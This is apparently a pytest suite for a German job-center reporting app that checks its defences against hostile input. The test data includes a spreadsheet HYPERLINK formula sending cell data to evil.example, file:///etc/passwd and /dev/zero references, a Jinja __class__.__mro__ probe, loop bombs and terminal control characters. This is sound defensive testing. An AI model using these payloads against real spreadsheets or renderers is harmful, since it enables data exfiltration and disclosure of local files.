"""Issue 11, points 2-4: hostile chapter texts, a renderer that fetches nothing, spreadsheet
downloads without formula injection, typed free texts without control characters.

The cockpit is the hand-made job center of ``cockpit_fixture`` (J1, programme year 2022). A local
HTTP listener (a thread on 127.0.0.1) records every request it gets; it must get none while
programmes with hostile images are rendered to PDF and HTML.
"""

from __future__ import annotations

import csv
import io
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from amip.reports import texts as tx

FORM = {"jc": "J1", "year": "2022"}


@pytest.fixture(scope="module")
def cockpit(cockpit_factory, warehouse_factory):
    return cockpit_factory(warehouse_factory(name="hardening_texts"))


@pytest.fixture()
def listener():
    """(port, requests): an HTTP server on 127.0.0.1 that records the path of every request."""
    seen: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            seen.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
            self.end_headers()
            self.wfile.write(b"\x89PNG\r\n\x1a\n")

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_address[1], seen
    finally:
        server.shutdown()
        server.server_close()


def client(application, name: str):
    from fastapi.testclient import TestClient

    from cockpit_fixture import login

    c = TestClient(application)
    assert login(c, name).status_code == 303
    return c


def token(c, url: str = "/berichte/text?jc=J1&year=2022&chapter=schlussbemerkungen") -> str:
    from cockpit_fixture import csrf_of

    return csrf_of(c.get(url).text)


def save_text(c, chapter: str, markdown: str, follow: bool = False):
    return c.post(
        "/berichte/text",
        data={"csrf_token": token(c), **FORM, "chapter": chapter, "markdown": markdown},
        follow_redirects=follow,
    )


def reset(c, chapter: str):
    return c.post(
        "/berichte/text",
        data={"csrf_token": token(c), **FORM, "chapter": chapter, "action": "reset"},
        follow_redirects=False,
    )


def pdf_text(data: bytes, tmp_path) -> str:
    import subprocess

    path = tmp_path / "doc.pdf"
    path.write_bytes(data)
    return subprocess.run(["pdftotext", "-layout", str(path), "-"], check=True, capture_output=True, text=True).stdout


# ---- point 2: the renderer fetches nothing ------------------------------------------------------


def test_programme_with_hostile_images_is_rendered_without_any_request(cockpit, listener, tmp_path):
    port, seen = listener
    base = f"http://127.0.0.1:{port}"
    hostile = (
        f"Vor dem Bild ![fern]({base}/x.png) und ![pw](/etc/passwd) und ![null](/dev/zero) "
        f'und ![datei](file:///etc/passwd) und [Link]({base}/link) und <img src="{base}/raw.png">.\n\n'
        f"![ref][r]\n\n[r]: {base}/ref.png\n\nNach dem Bild.\n"
    )
    co = client(cockpit, "co")
    assert save_text(co, "schlussbemerkungen", hostile).status_code == 303
    try:
        page = co.get("/berichte/text?jc=J1&year=2022&chapter=schlussbemerkungen")
        html = co.get("/berichte/programm.html?jc=J1&year=2022")
        pdf = co.get("/berichte/programm.pdf?jc=J1&year=2022")
    finally:
        assert reset(co, "schlussbemerkungen").status_code == 303
    assert page.status_code == 200 and html.status_code == 200 and pdf.status_code == 200
    assert pdf.content.startswith(b"%PDF")
    assert seen == []  # no request reached the listener: not from the PDF, the HTML or the preview
    doc = html.text
    # images are replaced by their alt text; the raw <img> is text; nothing in the document loads a URL
    for alt in ("fern", "pw", "null", "datei", "ref"):
        assert f"[Bild nicht eingebunden: {alt}]" in doc, alt
    assert f'<a href="{base}/link">Link</a>' in doc  # an http link stays a link (followed only by a click)
    assert "&lt;img src=" in doc and f'src="{base}' not in doc and 'src="/' not in doc and "file://" not in doc
    assert "<img" not in page.text.split('class="report-preview"')[1]  # the cockpit preview too
    assert "Content-Security-Policy" in doc and "default-src 'none'" in doc
    text = pdf_text(pdf.content, tmp_path)
    assert "Vor dem Bild" in text and "Nach dem Bild" in text
    assert "root:" not in text  # nothing of /etc/passwd in the PDF


def test_the_url_fetcher_refuses_everything_but_the_packages_assets(listener):
    from weasyprint.urls import URLFetchingError  # noqa: F401 (the fetcher's errors are caught by WeasyPrint)

    from amip.reports import render as rr

    port, seen = listener
    base = f"http://127.0.0.1:{port}"
    html = (
        f'<html><head><link rel="stylesheet" href="{base}/s.css"><style>@import url("{base}/i.css");'
        f' body {{ background: url("file:///dev/zero"); }}</style></head><body>'
        f'<img src="{base}/a.png"><img src="file:///etc/passwd"><img src="/dev/zero"><img src="x.png">'
        f"<p>Inhalt</p></body></html>"
    )
    assert rr.pdf_bytes(html).startswith(b"%PDF")  # finishes (no endless read of /dev/zero)
    assert seen == []
    fetcher = rr._fetcher()
    for url in (
        f"{base}/b.png",
        "file:///etc/passwd",
        "file:///dev/zero",
        "ftp://127.0.0.1/x",
        "file:///" + str(rr._assets()).lstrip("/") + "/../render.py",
    ):
        with pytest.raises(ValueError, match="without fetching"):
            fetcher.fetch(url)
    assert seen == []
    own = fetcher.fetch((rr._assets() / "report.css").as_uri())
    assert b"@page" in own.read()
    assert fetcher.fetch("data:text/plain;base64,SGFsbG8=").read() == b"Hallo"


def test_links_only_with_safe_schemes():
    html = tx.render_markdown(
        "ziele",
        "[a](javascript:alert(1)) [b](https://example.org) [c](data:text/html,x) [d](mailto:info@example.org)",
        {},
        {},
        {},
    )
    assert 'href="javascript' not in html and 'href="data' not in html
    assert '<a href="https://example.org">b</a>' in html and '<a href="mailto:info@example.org">d</a>' in html


# ---- point 3: chapter texts are data, not code ------------------------------------------------

LOOPS = "{% for a in range(100000) %}{% for b in range(100000) %}x{% endfor %}{% endfor %}"


def test_template_loops_are_stored_and_printed_as_plain_text(cockpit):
    co = client(cockpit, "co")
    r = save_text(co, "schlussbemerkungen", f"Schleife: {LOOPS} und {{{{ jahr.__class__.__mro__ }}}}")
    # {{ … }} with an expression is not a placeholder: refused, naming it
    assert r.status_code == 400 and "ungültiger Platzhalter" in r.text and "jahr.__class__.__mro__" in r.text
    r = save_text(co, "schlussbemerkungen", f"Schleife: {LOOPS} im Jahr {{{{ jahr }}}}.")
    assert r.status_code == 303
    try:
        html = co.get("/berichte/programm.html?jc=J1&year=2022").text
    finally:
        reset(co, "schlussbemerkungen")
    assert f"Schleife: {LOOPS} im Jahr 2022." in html  # printed as typed, nothing ran


def test_placeholder_language_conditions_and_values():
    ctx = {"jahr": "2022", "plan_vorhanden": False, "vk_neu_mio": "–", "k1_vorjahr": "-6,9"}
    text = (
        "{% if plan_vorhanden %}Plan{% else %}Kein Plan {{ jahr }}{% endif %}; "
        '{% if vk_neu_mio != "–" %}VK{% else %}kein VK{% endif %}; '
        "{% if not plan_vorhanden %}{% if k1_vorjahr %}K1 {{ k1_vorjahr }}{% endif %}{% endif %}"
    )
    assert tx.render_markdown("ziele", text, ctx, {}, {}) == "<p>Kein Plan 2022; kein VK; K1 -6,9</p>\n"
    # figures are inserted as text: markup in a value is escaped, never interpreted
    html = tx.render_markdown("ziele", "Name: {{ jobcenter }}", {"jobcenter": "<b>X</b> ![i](http://x/y.png)"}, {}, {})
    assert "&lt;b&gt;X&lt;/b&gt; ![i](http://x/y.png)" in html and "<img" not in html


def test_unknown_marker_is_rejected_on_save_naming_it(cockpit):
    co = client(cockpit, "co")
    for bad, named in (
        ("Vorher\n\n@@amip:table:x@@\n\nNachher", "@@amip:table:x@@"),
        ("@@amip:bild:logo@@", "@@amip:bild:logo@@"),
        ('{{ grafik("gibts_nicht") }}', "unbekannte Grafik „gibts_nicht“"),
        ("{% if gibts_nicht %}a{% endif %}", "unbekannter Platzhalter „gibts_nicht“"),
        ("{% if plan_vorhanden %}a", "ohne „{% endif %}“"),
    ):
        r = save_text(co, "ressourcen", bad)
        assert r.status_code == 400, bad
        assert "Kapitel „ressourcen“" in r.text and named in r.text, (bad, r.text[:2000])
    with cockpit.state.sessions.begin() as s:
        assert "ressourcen" not in tx.stored_texts(s, 2022, "J1")  # nothing stored
    # a known marker on its own line places the table
    assert save_text(co, "ressourcen", "Budget:\n\n@@amip:table:budget@@\n").status_code == 303
    try:
        html = co.get("/berichte/programm.html?jc=J1&year=2022").text
    finally:
        reset(co, "ressourcen")
    assert 'id="tab-budget"' in html.split('id="ressourcen"')[1].split('<section class="chapter"')[0]


def test_a_broken_stored_text_renders_a_note_and_reset_works(cockpit, tmp_path):
    # an old text stored before the check (or by another version): unknown marker and placeholder
    with cockpit.state.sessions.begin() as s:
        tx.save_text(
            s, 2022, "J1", "ziele", "Vorher @@amip:table:x@@ und {{ weg }} nachher.\n\n@@amip:table:x@@\n", "altbestand"
        )
    co, gf = client(cockpit, "co"), client(cockpit, "gf")
    page = co.get("/berichte/text?jc=J1&year=2022&chapter=ziele")
    assert page.status_code == 200
    assert "unbekannte Tabelle „x“" in page.text and "@@amip:table:x@@" in page.text
    assert 'value="reset"' in page.text
    for c in (co, gf):  # every role with FIGURES gets the documents
        for fmt in ("html", "pdf", "xlsx"):
            assert c.get(f"/berichte/programm.{fmt}?jc=J1&year=2022").status_code == 200, fmt
    html = gf.get("/berichte/programm.html?jc=J1&year=2022").text
    assert "Hinweis: unbekannte Tabelle „x“ (@@amip:table:x@@)" in html
    assert "Hinweis: unbekannter Platzhalter „weg“" in html
    text = pdf_text(gf.get("/berichte/programm.pdf?jc=J1&year=2022").content, tmp_path)
    assert "unbekannte Tabelle" in " ".join(text.split())
    assert reset(co, "ziele").status_code == 303
    with cockpit.state.sessions.begin() as s:
        assert "ziele" not in tx.stored_texts(s, 2022, "J1")
    html = gf.get("/berichte/programm.html?jc=J1&year=2022").text
    assert "Hinweis:" not in html and 'id="tab-kennzahlen"' in html


def test_cli_refuses_to_write_a_programme_with_a_broken_text(tmp_path):
    with pytest.raises(tx.TextError, match="unbekannte Tabelle „x“"):
        tx.render_markdown("ziele", "@@amip:table:x@@", {}, {"budget": "<table></table>"}, {})
    # a known table this report lacks is a note, not an error
    html = tx.render_markdown("ziele", '{{ grafik("elb_entwicklung") }}', {}, {}, {})
    assert "Grafik „elb_entwicklung“: keine Daten" in html


def test_rendering_budget_bounds_size():
    with pytest.raises(tx.TextError, match="zu lang"):
        tx.check_syntax("ziele", "x" * (tx.MAX_TEXT + 1))
    with pytest.raises(tx.TextError, match="zu viele Tabellen"):
        tx.check_syntax("ziele", '{{ tabelle("budget") }}\n' * (tx.MAX_BLOCKS + 1))
    big = "<table>" + "x" * (tx.MAX_HTML // 10) + "</table>"
    with pytest.raises(tx.TextError, match="zu groß"):
        tx.render_markdown("ziele", '{{ tabelle("budget") }}\n' * 11, {}, {"budget": big}, {})
    html = tx.render_markdown("ziele", '{{ tabelle("budget") }}\n' * 11, {}, {"budget": big}, {}, strict=False)
    assert "zu groß" in html and len(html) < 1000


def test_import_reads_only_regular_chapter_files(tmp_path):
    folder = tmp_path / "texte"
    folder.mkdir()
    (folder / "praeambel.md").symlink_to("/dev/zero")
    with pytest.raises(FileNotFoundError, match="praeambel.md"):
        tx.read_dir(folder)
    (folder / "praeambel.md").unlink()
    (folder / "praeambel.md").write_bytes("Grüße".encode("latin-1"))
    with pytest.raises(FileNotFoundError, match="not UTF-8"):
        tx.read_dir(folder)


# ---- point 4: spreadsheet downloads without formula injection ---------------------------------

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Klick")', "+1", "-x", "@x", "\tx", "\rx"]


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200, response.text[:300]
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_audit_log_csv_and_xlsx_neutralise_formulas(cockpit):
    import openpyxl

    from amip.state import audit

    with cockpit.state.sessions.begin() as s:
        for i, h in enumerate(HOSTILE):
            audit.record(s, user_name=f"hostile{i}", role="controlling", action="report_text_edit", detail=h)
        audit.record(
            s,
            user_name='=HYPERLINK("http://evil.example","x")',
            role="controlling",
            action="report_text_edit",
            detail="name",
        )
    adm = client(cockpit, "adm")
    rows = read_csv(adm.get("/admin/protokoll.csv"))
    details = {r[6] for r in rows[1:]}
    for h in HOSTILE:
        assert "'" + h in details, h
        assert h not in details
    assert any(r[1] == '\'=HYPERLINK("http://evil.example","x")' for r in rows[1:])
    wb = openpyxl.load_workbook(io.BytesIO(adm.get("/admin/protokoll.xlsx").content))
    cells = [c for row in wb.active.iter_rows() for c in row if c.value is not None]
    hyper = [c for c in cells if str(c.value).startswith("=HYPERLINK")]
    assert len(hyper) == 2 and all(c.data_type == "s" for c in hyper)  # text cells, not formulas
    assert not any(c.data_type == "f" for c in cells) and not any(c.hyperlink for c in cells)


def test_plan_note_reaches_the_versions_csv_as_text_and_control_characters_are_refused(cockpit):
    from cockpit_fixture import csrf_of

    co = client(cockpit, "co")
    tok = csrf_of(co.get("/planung?jc=J1&year=2030").text)
    data = {"csrf_token": tok, "jc": "J1", "year": "2030", "integrations_all": "10", "elb_jdw_all": "20"}
    bad = co.post("/planung/jobcenter", data={**data, "note": "Notiz\x07 mit Klingel"}, follow_redirects=False)
    assert bad.status_code == 400 and "Steuerzeichen" in bad.text and "U+0007" in bad.text
    bidi = co.post("/planung/jobcenter", data={**data, "note": "abc\u202edef"}, follow_redirects=False)
    assert bidi.status_code == 400
    long = co.post("/planung/jobcenter", data={**data, "note": "x" * 2001}, follow_redirects=False)
    assert long.status_code == 400 and "zu lang" in long.text
    team = co.post("/planung/team", data={**data, "team": "T1\x1b[2J"}, follow_redirects=False)
    assert team.status_code == 400 and "„Team“: enthält ein nicht erlaubtes Steuerzeichen (U+001B)" in team.text
    assert read_csv(co.get("/planung/versionen.csv?jc=J1&year=2030"))[1:] == []  # nothing was saved
    note = '=HYPERLINK("http://evil.example","x")'
    ok = co.post("/planung/jobcenter", data={**data, "note": note}, follow_redirects=False)
    assert ok.status_code == 303
    rows = read_csv(co.get("/planung/versionen.csv?jc=J1&year=2030"))
    assert rows[0][-1] == "Notiz" and rows[1][-1] == "'" + note
    import openpyxl

    ws = openpyxl.load_workbook(io.BytesIO(co.get("/planung/versionen.xlsx?jc=J1&year=2030").content)).active
    cell = next(c for row in ws.iter_rows() for c in row if c.value == note)
    assert cell.data_type == "s"
    # line breaks in a multi-line note are fine (CR LF stored as LF)
    ok = co.post("/planung/jobcenter", data={**data, "note": "Zeile 1\r\nZeile 2"}, follow_redirects=False)
    assert ok.status_code == 303
    assert read_csv(co.get("/planung/versionen.csv?jc=J1&year=2030"))[1][-1] == "Zeile 1\nZeile 2"


def test_data_table_csv_keeps_negative_numbers_numbers():
    from amip.cockpit.tables import Column, DataTable, csv_response, xlsx_response

    table = DataTable(
        "T",
        [
            Column("name", "Name"),
            Column("n", "Anzahl", "count"),
            Column("p", "Quote", "percent"),
            Column("code", "Code"),
        ],
        [{"name": h, "n": -3, "p": -6.9, "code": -5} for h in HOSTILE] + [{"name": "ok", "n": 4}],
        "t",
    )
    rows = list(csv.reader(io.StringIO(csv_response(table).body.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert [r[0] for r in rows[1:-1]] == ["'" + h for h in HOSTILE]
    assert {(r[1], r[2], r[3]) for r in rows[1:-1]} == {("-3", "-6,9", "-5")}  # numbers stay numbers
    assert rows[-1][:2] == ["ok", "4"]
    import openpyxl

    ws = openpyxl.load_workbook(io.BytesIO(xlsx_response(table).body)).active
    values = [[c.value for c in r] for r in ws.iter_rows(min_row=2)]
    assert [v[0] for v in values[:5]] == HOSTILE[:5]  # texts as typed, as text cells (CR is stored as _x000D_)
    assert all(c.data_type == "s" for c in next(ws.iter_cols(min_row=2, max_col=1)))
    assert values[0][1:3] == [-3, -6.9]


def test_report_xlsx_writes_texts_never_as_formulas(tmp_path):
    import openpyxl

    from amip.reports.tables import Col, ReportTable, write_xlsx

    t = ReportTable(
        "t",
        "=Titel",
        [Col("label", "=Spalte", "text"), Col("v", "Wert")],
        [{"label": "=1+1", "v": -2}, {"label": "@SUMME(A1)", "v": "-"}],
        caption="=Quelle",
        note="+Hinweis",
    )
    path = tmp_path / "r.xlsx"
    write_xlsx([t], path, "=Programm")
    ws = openpyxl.load_workbook(path)["t"]
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not any(c.data_type == "f" for c in cells)
    assert {c.value for c in cells} >= {"=Programm – =Titel", "+Hinweis", "=Spalte", "=1+1", "@SUMME(A1)", "=Quelle"}
    assert next(c.value for c in cells if c.column == 2 and c.row == 4) == -2


# ---- point 4: typed free texts ------------------------------------------------------------------


def test_clean_text_rules():
    from amip.text import TextInputError, clean_text

    assert clean_text("  a\r\nb\rc\td  ", "Notiz", max_len=20) == "a\nb\nc\td"
    with pytest.raises(
        TextInputError, match="„Notiz“: enthält ein nicht erlaubtes Steuerzeichen \\(U\\+0000\\) an Zeile 2"
    ):
        clean_text("a\nb\x00", "Notiz", max_len=20)
    with pytest.raises(TextInputError, match="Zeilenumbruch"):
        clean_text("a\nb", "Name", max_len=20, multiline=False)
    with pytest.raises(TextInputError, match="zu lang \\(21 Zeichen, höchstens 20\\)"):
        clean_text("x" * 21, "Notiz", max_len=20)
    for bad in ("\x1b[31m", "\x7f", "\u0085", "\u2028", "\u202e", "\ud800"):
        with pytest.raises(TextInputError):
            clean_text("a" + bad + "b", "Notiz", max_len=20)
    assert clean_text("Grüße – „ok“ 👍", "Notiz", max_len=20) == "Grüße – „ok“ 👍"


def test_dqm_reason_and_meeting_notes_refuse_control_characters(cockpit):
    from amip.dqm import tasks
    from amip.dqm.models import DqmTask
    from amip.worklists import intensive as ic

    with cockpit.state.sessions.begin() as s:
        task = DqmTask(
            rule_id="DQ01",
            finding_key="hardening-1",
            person_id="p1",
            month="2022-12",
            responsible="ifk",
            caseworker_id="c1",
            team_id="T1",
            first_run_id=1,
            last_run_id=1,
        )
        s.add(task)
        s.flush()
        task_id = task.id
    with (
        cockpit.state.sessions.begin() as s,
        pytest.raises(tasks.BadReason, match="„Begründung“: enthält ein nicht erlaubtes Steuerzeichen"),
    ):
        tasks.change_status(s, task_id, tasks.NO_ERROR, user_name="co", role="controlling", reason="ok\x1b[2J")
    co = client(cockpit, "co")
    from cockpit_fixture import csrf_of

    tok = csrf_of(co.get("/aufgaben").text)
    r = co.post(
        "/aufgaben/status",
        data={"csrf_token": tok, "task_id": str(task_id), "status": tasks.NO_ERROR, "reason": "Prüfung\x00"},
        follow_redirects=False,
    )
    assert r.status_code == 400 and "Steuerzeichen" in r.text
    with cockpit.state.sessions.begin() as s:
        assert s.get(DqmTask, task_id).status == tasks.OPEN and s.get(DqmTask, task_id).reason is None
    place = ic.IntensivePlace(status="active")  # checked before anything is read or written
    with pytest.raises(ic.IntensiveError, match="„Situation“: enthält ein nicht erlaubtes Steuerzeichen"):
        ic.record_meeting(
            None,
            place,
            date=None,
            situation="a\x08",
            agreed_steps="b",
            review_of_previous=None,
            user_name="ifk",
            role="ifk",
        )
    with pytest.raises(ic.IntensiveError, match="„Grund“: zu lang"):
        ic.end_place(None, place, on=None, reason="x" * 3000, user_name="ifk", role="ifk")


@pytest.fixture(scope="module")
def programme_2022(tmp_path_factory):
    from amip.reports import programme
    from test_reports import make

    return programme.collect(make(tmp_path_factory.mktemp("programme")), 2022)


def test_document_budget_turns_further_chapters_into_notes(programme_2022):
    from amip.reports import render as rr

    p = programme_2022
    longest = max((k for k in tx.PLACEHOLDERS if isinstance(p.context[k], str)), key=lambda k: len(p.context[k]))
    piece = "{{ " + longest + " }} "
    huge = piece * (tx.MAX_TEXT // 2 // len(piece))  # a valid text whose chapter renders to a few 100 kB
    texts = {k: huge for k in tx.CHAPTER_KEYS}
    with pytest.raises(tx.TextError, match="das Dokument wird zu groß"):
        rr.chapters_html(p, texts)
    chapters = rr.chapters_html(p, texts, strict=False)
    assert sum(len(c["html"]) for c in chapters) <= tx.MAX_DOCUMENT_HTML
    assert (
        "das Dokument wird zu groß" in chapters[-1]["html"] and "das Dokument wird zu groß" not in chapters[0]["html"]
    )


def test_known_tables_and_charts_are_the_ones_the_programme_places(programme_2022):
    p = programme_2022
    assert set(p.tables) == tx.TABLES and set(p.charts) == tx.CHARTS
    for chapter in tx.CHAPTER_KEYS:  # the defaults use only known names and pass the save check
        assert tx.problems(chapter, tx.default_text(chapter)) == []
